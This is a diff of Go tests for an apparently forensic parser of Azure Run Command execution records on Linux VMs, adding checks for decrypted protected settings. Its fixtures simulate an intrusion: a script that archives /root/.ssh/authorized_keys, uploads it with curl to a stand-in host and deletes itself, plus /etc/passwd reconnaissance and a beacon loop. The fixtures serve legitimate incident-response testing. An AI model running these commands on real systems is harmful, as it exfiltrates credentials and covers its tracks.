@@ -9,6 +9,8 @@ import (
 // Assertions follow the story in tests/fixtures/README.md.
 
 const (
+	fxSeq2Script = "#!/bin/bash\ntar czf loot.tar.gz /etc/hostname /root/.ssh/authorized_keys\nls -l loot.tar.gz\n" +
+		"curl -sk -X POST -F \"f=@loot.tar.gz\" https://203.0.113.7/u\nrm -f \"$0\""
 	fxH = "/var/lib/waagent/Microsoft.CPlat.Core.RunCommandLinux-1.0.5"
 	fxD = "/var/lib/waagent/run-command/download"
 )
@@ -24,8 +26,9 @@ func TestFixtureLinuxExecutions(t *testing.T) {
 		t.Fatalf("rows %d", len(rows))
 	}
 	check(t, "seq0", rows[0], map[string]any{
-		"SeqNo": int64(0), "Command": "id; hostname; cat /etc/passwd | head -3", "CommandSource": "script", "Protected": true,
-		"ScriptPath": fxD + "/0/script.sh", "Status": "success", "Running": false,
+		"SeqNo": int64(0), "Command": "id; hostname; cat /etc/passwd | head -3", "CommandSource": "protectedSettings", "Protected": true,
+		"DecryptError": nil,
+		"ScriptPath":   fxD + "/0/script.sh", "Status": "success", "Running": false,
 		"Started": "2025-03-14T09:12:04.401733Z", "StartedSource": "script.mtime",
 		"Finished": "2025-03-14T09:12:04.489577Z", "FinishedSource": "status.timestamp",
 		"StdErr": "", "OutputSource": "files",
@@ -51,7 +54,7 @@ func TestFixtureLinuxExecutions(t *testing.T) {
 	}
 	check(t, "seq1 collect.sh", f1[0].(map[string]any), map[string]any{"Name": "collect.sh", "OSPath": fxD + "/1/collect.sh"})
 	check(t, "seq2", rows[2], map[string]any{
-		"SeqNo": int64(2), "Command": nil, "CommandSource": nil, "ScriptPath": nil, "ScriptSHA256": nil, "Protected": true,
+		"SeqNo": int64(2), "Command": fxSeq2Script, "CommandSource": "protectedSettings", "ScriptPath": nil, "ScriptSHA256": nil, "Protected": true,
 		"StdOut": "-rw-r--r-- 1 root root 255 Mar 14 10:05 loot.tar.gz\n{\"status\":\"ok\",\"id\":\"7f3a9c\"}",
 		"StdErr": "tar: Removing leading `/' from member names\n", "Finished": "2025-03-14T10:05:42.21459Z",
 	})
@@ -62,12 +65,31 @@ func TestFixtureLinuxExecutions(t *testing.T) {
 	check(t, "seq2 loot", f2[0].(map[string]any), map[string]any{"Name": "loot.tar.gz", "Size": int64(255),
 		"SHA256": "86d093566ffb86a210fd87686d3cefc13baf928f8b0b6f875b8ff039edd80fcd"})
 	check(t, "seq3", rows[3], map[string]any{
-		"SeqNo": int64(3), "CommandSource": "script", "Status": "transitioning", "Running": true, "Pid": int64(37342), "MostRecent": true,
+		"SeqNo": int64(3), "CommandSource": "protectedSettings", "Status": "transitioning", "Running": true, "Pid": int64(37342), "MostRecent": true,
 		"Started": "2025-03-14T10:31:04.553391Z", "Finished": nil, "FinishedSource": nil,
 		"StdOut": "2025-03-14T10:31:04Z beacon vm-web01\n2025-03-14T10:36:05Z beacon vm-web01\n",
 	})
 	if !strings.Contains(rows[3]["Command"].(string), "sleep 300") {
 		t.Errorf("seq3 command %q", rows[3]["Command"])
+	}
+
+	// The decrypted protected settings of the Run Command v1 runs (the
+	// tree keeps its tenant key): seq 0, 2 and 3 send their script there.
+	for _, i := range []int{0, 2, 3} {
+		d, ok := rows[i]["ProtectedSettingsDecrypted"].(map[string]any)
+		if !ok || d["script"] == nil {
+			t.Errorf("seq%d ProtectedSettingsDecrypted %v", i, rows[i]["ProtectedSettingsDecrypted"])
+		}
+	}
+	if rows[1]["ProtectedSettingsDecrypted"] != nil || rows[1]["DecryptError"] != nil {
+		t.Errorf("seq1 (no protected settings): %v %v", rows[1]["ProtectedSettingsDecrypted"], rows[1]["DecryptError"])
+	}
+	// decrypt=false: the script file for seq 0 and 3, nothing for seq 2.
+	rows, _ = runVQL(t, "SELECT SeqNo, CommandSource, ProtectedSettingsDecrypted FROM azure_run_executions(root=Root, decrypt=false)", map[string]any{"Root": root})
+	for i, want := range []any{"script", "settings", nil, "script"} {
+		if rows[i]["CommandSource"] != want || rows[i]["ProtectedSettingsDecrypted"] != nil {
+			t.Errorf("decrypt=false seq%d: %v", i, rows[i])
+		}
 	}
 
 	// redact=false shows the SAS signature.
@@ -105,7 +127,10 @@ func TestFixtureLinuxSettingsStatus(t *testing.T) {
 	for i, r := range rows {
 		check(t, "settings", r, map[string]any{"OSPath": fxH + "/config/" + string(rune('0'+i)) + ".settings", "SeqNo": int64(i), "ParseError": nil, "Empty": false})
 	}
-	check(t, "settings 0", rows[0], map[string]any{"Protected": true, "Thumbprint": "010F03CA0562E782EF60F02376591592CF2101F4", "Command": nil})
+	check(t, "settings 0", rows[0], map[string]any{"Protected": true, "Thumbprint": "010F03CA0562E782EF60F02376591592CF2101F4",
+		"Command": "id; hostname; cat /etc/passwd | head -3", "CommandField": "protectedSettings.script", "DecryptError": nil})
+	check(t, "settings 1", rows[1], map[string]any{"ProtectedSettingsDecrypted": nil, "DecryptError": nil})
+	check(t, "settings 2", rows[2], map[string]any{"Command": fxSeq2Script, "CommandField": "protectedSettings.script"})
 	check(t, "settings 1", rows[1], map[string]any{"Protected": false, "Thumbprint": nil, "ProtectedSettings": nil, "CommandField": "commandToExecute"})
 	if !strings.HasPrefix(rows[3]["ProtectedSettings"].(string), "MII") {
 		t.Errorf("ciphertext %v", rows[3]["ProtectedSettings"])
